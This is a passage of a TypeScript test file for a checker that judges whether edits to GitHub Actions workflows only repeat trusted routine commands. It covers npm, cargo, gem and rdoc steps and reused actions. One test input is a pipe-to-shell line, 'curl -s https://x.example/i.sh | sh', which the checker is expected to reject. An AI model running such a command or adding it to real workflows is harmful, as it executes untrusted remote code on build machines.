    expect(editsOnlyCommands(wf(run('npm install', 'npm test')), wf(run('npm install', 'npm install left-pad', 'npm ci', 'npm test')), 'workflow')).toBe(false);
    // Cargo kept to the lockfile by the base: a new cargo command without --locked lets it go.
    expect(editsOnlyCommands(wf(run('cargo test --locked')), wf(run('cargo test --locked', 'cargo build')), 'workflow')).toBe(false);
  });
});

describe('a new workflow step made of a step the workflow runs, for another version (trusted-routine)', () => {
  const wf = (steps: string[]) => ['name: docs', 'on: [push, workflow_dispatch]', 'jobs:', '  docs:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
  const gen = (v: string, next: string) => [`      - name: Generate ${v} documentation`, `        run: 'gem install rack --version "< ${next}" && gem unpack rack -v "< ${next}" && cd rack-${v}* && bundle exec rdoc --op ../docs/${v} --main README.md'`];
  it('reads versions inside words and a quoted "<" as the same command for another version', () => {
    expect(editsOnlyCommands(wf(gen('3.1', '3.2')), wf([...gen('3.2', '3.3'), ...gen('3.1', '3.2')]), 'workflow')).toBe(true);
  });
  it('does not read a redirection, another host or an address as a version', () => {
    expect(editsOnlyCommands(wf(gen('3.1', '3.2')), wf([...gen('3.1', '3.2'), '      - run: bundle exec rdoc --op ../docs/3.2 --main README.md > /tmp/x']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf(['      - run: curl -fsSO http://10.0.0.1/docs.tgz']), wf(['      - run: curl -fsSO http://10.0.0.1/docs.tgz', '      - run: curl -fsSO http://10.0.0.2/docs.tgz']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf(['      - run: pip download tool==1.2']), wf(['      - run: pip download tool==1.2', '      - run: pip download other==1.3']), 'workflow')).toBe(false);
  });
});

describe('a new workflow step with an action another workflow of the repository runs (trusted-routine)', () => {
  const wf = (steps: string[]) => ['name: ci', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm test', ...steps, ''].join('\n');
  const upload = ['      - uses: codecov/codecov-action@v4', '        with:', '          files: coverage/lcov.info'];
  it('counts as built from what the repository runs when an unchanged workflow runs that action, given no input that is code', () => {
    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow', new Set(['codecov/codecov-action']))).toBe(true);
  });
  it('does not without such a workflow, for an action another one runs with code as its input, or for a code action', () => {
    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow')).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(upload), 'workflow', new Set(['coverallsapp/github-action']))).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - uses: acme-tools/runner@v2', '        with:', '          script: curl -s https://x.example/i.sh | sh']), 'workflow', new Set(['acme-tools/runner']))).toBe(false);
    expect(editsOnlyCommands(wf([]), wf(['      - uses: actions/github-script@v7', '        with:', "          script: console.log('hi')"]), 'workflow', new Set(['actions/github-script']))).toBe(false);
  });
});
